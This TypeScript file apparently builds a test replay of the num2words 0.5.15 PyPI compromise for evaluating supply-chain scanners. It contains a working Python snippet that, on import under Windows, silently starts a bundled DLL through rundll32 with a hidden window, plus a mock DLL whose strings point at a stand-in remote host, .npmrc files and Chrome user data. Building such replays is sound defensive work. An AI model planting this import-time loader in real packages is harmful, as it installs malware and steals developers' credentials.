import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { numberWordsLibrary } from './libraries/number-words.ts';
import { windowsBootstrap } from './look-alikes/start-up.ts';
import { makePe } from './pe.ts';
import { py } from './python-text.ts';

const CODE = py`
import os
import subprocess
import sys


def _load_tables():
    if sys.platform != "win32":
        return
    library = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "node-gyp.dll")
    if os.path.exists(library):
        subprocess.Popen(["rundll32.exe", library + ",main"], creationflags=0x08000000, close_fds=True)


_load_tables()
`;

function malicious(c: Remote): Draft {
  const files = numberWordsLibrary();
  const dll = makePe({
    seed: 'scavenger',
    imports: {
      'KERNEL32.dll': ['LoadLibraryA', 'GetProcAddress', 'VirtualAlloc', 'IsDebuggerPresent', 'GetComputerNameA'],
      'WINHTTP.dll': ['WinHttpOpen', 'WinHttpConnect', 'WinHttpSendRequest'],
    },
    strings: [c.url('/c/k2/'), 'SCAVENGER', '.npmrc', '\\Google\\Chrome\\User Data'],
    exports: ['main'],
    isLibrary: true,
    textBytes: 180_000,
  });
  return {
    kind: 'wheel',
    name: 'num2words',
    version: '0.5.15',
    files: { ...files, 'num2words/data/node-gyp.dll': dll },
    sites: [siteIn(files, 'num2words/__init__.py', CODE)],
  };
}

export const NUM2WORDS: Replay = {
  id: '11-num2words',
  title: 'num2words 0.5.15: a loader DLL started by rundll32 at import',
  source: 'https://blog.pypi.org/posts/2025-07-31-incident-report-phishing-attack/',
  runs: 'import on Windows starts rundll32 with a bundled DLL whose entry is main',
  remote: 'https://datahog.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '0.5.14', ['num2words/data/node-gyp.dll']),
  lookAlikes: () => [windowsBootstrap()],
};
